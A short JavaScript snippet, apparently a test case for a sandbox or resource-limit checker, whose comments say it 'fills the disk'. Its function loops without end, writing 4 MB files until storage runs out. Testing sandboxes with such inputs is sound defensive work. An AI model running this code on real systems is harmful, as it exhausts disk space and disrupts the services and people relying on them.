// Tries: fills the disk.
// Attacks: files
// Ends: output or finished
function answer() {
  const fs = require('fs');
  for (let at = 0; ; at++) fs.writeFileSync(`file-${at}`, Buffer.alloc(4 << 20));
}
